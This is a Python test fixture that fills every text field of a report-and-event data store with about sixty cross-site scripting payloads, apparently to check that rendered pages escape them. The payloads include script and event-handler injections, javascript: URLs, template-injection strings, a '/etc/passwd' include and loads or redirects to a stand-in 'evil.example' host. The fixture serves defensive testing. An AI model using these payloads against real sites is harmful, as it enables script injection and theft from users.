"""Texts that would run if a page took them for markup, and a record that has one in every field."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

from dragoman.store.schema import tables
from dragoman.store.store import Store

Row = dict[str, Any]
RUN = "alert(1)"
"""What each payload tries to do: a dialog is what the tests watch for."""

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src=x/onerror={RUN}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</svg><script>{RUN}</script>",
    f"</text></svg><img src=x onerror={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"https://a.example/?q=<script>{RUN}</script>",
    f'https://a.example/" onmouseover="{RUN}',
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` autofocus onfocus=`{RUN}` x=`",
    f"x onpointerover={RUN} ",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    f"{{{{ constructor.constructor('{RUN}')() }}}}",
    "{% include '/etc/passwd' %}{{ 7 * 7 }}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u202e<script>{RUN}</script>\u202c\x00\x1b[31m",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"</bdi></q></li></ol></section></main><img src=x onerror={RUN}>",
    f"../../{'x' * 300}/<script>{RUN}</script>",
)
"""Sixty ways, and one; each is put into every text of a record."""

_DAY = dt.date(2025, 11, 3)


def record(folder: Path) -> Store:
    """A record with one row a table for each payload, made of that payload."""
    store = Store.open(folder, create=True, made_by="tests")
    content: dict[str, list[Row]] = {name: [] for name in tables()}
    for number, payload in enumerate(PAYLOADS):
        for name, row in _rows(payload, f"{payload}{number}").items():
            content[name].append(row)
    content["made"] = content["made"][:1]
    with store.writing():
        store.publish(content)
    return store


def _rows(text: str, key: str) -> dict[str, Row]:
    party = {
        "party_id": key, "name": text, "name_raw": text, "kind": text, "country": text,
        "sector": text, "office": text,
    }  # fmt: skip
    days = {"date_start": _DAY, "date_end": _DAY, "date_precision": text}
    act = {
        "act": text, "event_type": text, "mode": text, "cameo": text, "quad_class": 4,
        "intensity": -5.0, "actors": [party], "recipients": [party],
        "others": [{"role": text, **party}], **days, "status": text,
        "place": {"name": text, "country": text, "lat": -12.05, "lon": -77.04},
    }  # fmt: skip
    return {
        "reports": {
            "report_id": key, "uri": text, "publisher": text, "title": text, "byline": text,
            "lang": text, "published": _DAY, "published_from": text, "published_precision": text,
            "duplicate_of": key, "words": 3, "sha256": text, "retrieved": None, "written_at": text,
        },
        "texts": {"report_id": key, "text": text},
        "events": {
            "event_id": key, "incident_id": key, "report_id": key, "report": text, **act,
            "number": {"value": 3.0, "unit": text, "quote": text}, "attributed_to": [text],
            "quote": text, "start": 0, "end": len(text), "confidence": 0.5, "coder": text,
            "trigger": text, "pattern": text, "contexts": [text], "date_words": text,
            "date_why": text, "place_why": text,
        },
        "incidents": {
            "incident_id": key, **act, "events": [key], "reports": 1, "independent_sources": 1,
            "confidence": 0.5, "summary": text,
        },
        "conflicts": {
            "conflict_id": key, "kind": text, "between": text, "about": text, "incidents": [key],
            "readings": [
                {"value": text, "reports": [key], "uris": [text], "quotes": [text],
                 "independent_sources": 1}
            ] * 2,
            "preferred": 0, "why": text,
        },
        "relations": {
            "pair": [text, key], "date_start": _DAY, "date_end": None, "state": text,
            "since": [key], "quotes": [text],
        },
        "rejections": {
            "stage": text, "uri": text, "report_id": key, "reason": text, "detail": text,
        },
        "offices": {
            "party_id": key, "name": text, "office": text, "country": text, "date_start": _DAY,
            "date_end": None,
            "asserted": [
                {"report_id": key, "uri": text, "date": _DAY, "quote": text, "tense": text}
            ],
        },
        "judgements": {
            "judgement_id": key, "ruling": text, "about": [key], "events": [key], "by": text,
            "at": text, "note": text, "undone_by": None, "holds": True,
        },
        "made": {"dragoman": text, "coder": text, "knowledge": text, "inputs": text},
    }  # fmt: skip
